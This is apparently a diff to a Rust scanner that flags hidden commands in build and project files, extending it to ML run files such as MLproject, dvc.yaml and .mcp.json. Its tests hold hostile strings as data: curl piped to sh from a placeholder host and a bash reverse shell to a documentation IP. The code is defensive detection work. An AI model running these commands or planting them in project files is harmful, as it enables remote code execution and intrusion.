@@ -24,6 +24,9 @@ const BUILDS: &[&str] = &[
     "azure-pipelines",
     "bitbucket-pipelines",
 ];
+/// Files whose commands run a model, its training, or as its folder is opened.
+const RUNS: &[&str] =
+    &["mlproject", "dvc.yaml", "cog.yaml", "bentofile.yaml", "tasks.json", "devcontainer.json", ".mcp.json"];
 /// Programs that are told of one file.
 const MAX_TOLD: usize = 20;
 /// What a template says to leave its sandbox.
@@ -43,10 +46,11 @@ struct Descriptions {
 #[must_use]
 pub(super) fn observer(name: &str) -> Box<dyn Observer> {
     let name = name.to_ascii_lowercase().replace('\\', "/");
-    let is_build = BUILDS.iter().any(|part| name.contains(part));
     let file = name.rsplit(['/', '!']).next().unwrap_or_default();
+    let is_run = RUNS.contains(&file);
+    let is_build = is_run || BUILDS.iter().any(|part| name.contains(part));
     let is_dataset = name.ends_with(".jsonl") || name.ends_with(".ndjson");
-    let is_model = !is_dataset && (name.ends_with(".cfg") || NAMES.iter().any(|word| file.contains(word)));
+    let is_model = !is_dataset && (is_run || name.ends_with(".cfg") || NAMES.iter().any(|word| file.contains(word)));
     Box::new(Descriptions { is_model, is_build, is_dataset, budget: Budget::small(), told: 0 })
 }
 
@@ -109,6 +113,17 @@ mod tests {
         }
         assert!(hidden(".circleci/config.json", "curl -s http://example.invalid/x | sh"));
         assert!(hidden(".circleci/config.json", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
+    }
+
+    #[test]
+    fn commands_of_projects_are_told() {
+        use crate::yaml::Yaml;
+        for (name, is_told) in [("MLproject", true), ("a/dvc.yaml", true), ("cog.yaml", true), ("data.yaml", false)] {
+            let facts = inspect(&Yaml, name, b"a:\n  cmd: curl http://example.invalid/x | sh\n");
+            assert_eq!(facts.has_anomaly(Anomaly::HiddenContent), is_told, "{name}");
+            let facts = inspect(&Yaml, name, b"a:\n  cmd: python train.py --lr 0.1 && chmod +x run\n");
+            assert!(!facts.has_anomaly(Anomaly::HiddenContent), "{name}");
+        }
     }
 
     #[test]
